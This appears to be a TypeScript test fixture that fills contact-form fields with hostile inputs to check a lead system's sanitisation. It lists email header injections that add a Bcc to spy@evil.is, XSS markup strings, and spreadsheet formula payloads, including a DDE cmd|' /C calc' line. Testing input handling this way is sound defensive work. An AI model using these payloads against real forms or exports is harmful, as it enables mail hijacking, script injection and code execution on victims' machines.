import type { Form } from '#leads/leads'

/**
 * Values that would add a header, a recipient or a message to an email that pastes text together.
 * Each fits into the shortest field.
 */
export const headerInjections: readonly string[] = [
  'Jón\r\nBcc: spy@evil.is',
  'Jón\nBcc: spy@evil.is',
  'Jón\rTo: spy@evil.is\r',
  'Jón\r\n\r\n<b>spy</b>',
  'Jón%0d%0aBcc: spy@evil.is',
  'Jón\u2028Bcc: spy@evil.is\u2029Cc: a@b.is',
  '=?utf-8?Q?J=0D=0ABcc:_spy@evil.is?=',
  'Jón, spy@evil.is, <cc@evil.is>',
  '"Jón" <spy@evil.is>, "',
  'Friends: spy@evil.is, b@evil.is;',
  '(Jón) spy@evil.is (',
  'Jón\\" <spy@evil.is> \\',
  'Jón\r\n.\r\nMAIL FROM:<spy@evil.is>\r\n',
  'Jón\u202e\u2066si.live@yps\u200b\ufeff',
  '$t(forms:alert) {{company.email}}',
]

/** Values that would become markup in a page or email that does not escape them. */
export const markup: readonly string[] = [
  '"><script>hit()</script>',
  "'><img src=x onerror=hit()>",
  '" autofocus onfocus="hit()" x="',
  '</textarea></title></style></script><svg onload=hit()>',
  '--><iframe srcdoc="<script>hit()//">',
  '&lt;b&gt; &quot; &#x3c;script&#x3e; &amp;',
  '</td></tr></table><a href="javascript:hit()">x',
  '<!-- <![CDATA[ ]]> {{hit()}} <%= hit() %> `',
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
]

/** Values that a spreadsheet would run. */
export const formulas: readonly string[] = [
  '=HYPERLINK("https://evil.is";"x")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1;1)',
  '\t=1+1',
  'Jón\n=1+1',
  'Jón",=1+1,"',
  'Jón;=1+1;',
  '\u202e=1+1\u200f',
]

/**
 * A post of `form` with `value` in every field that is written in, but for the email address: as
 * much of it as the field holds, and behind a web address where one is asked for.
 */
export function postWith(form: Form, value: string, email: string): Record<string, string> {
  const fields = form.fields.map((field): readonly [string, string] => {
    if ('options' in field) return [field.name, field.options[0] ?? '']
    if (field.kind === 'email') return [field.name, email]
    if (field.kind === 'url') return [field.name, `https://example.is/${value}`]
    // The same text from many addresses looks like abuse.
    if (field.kind === 'textarea') return [field.name, `${value}\n${email}`]
    return [field.name, value.slice(0, field.max)]
  })
  return { 'form-name': form.name, ...Object.fromEntries(fields) }
}
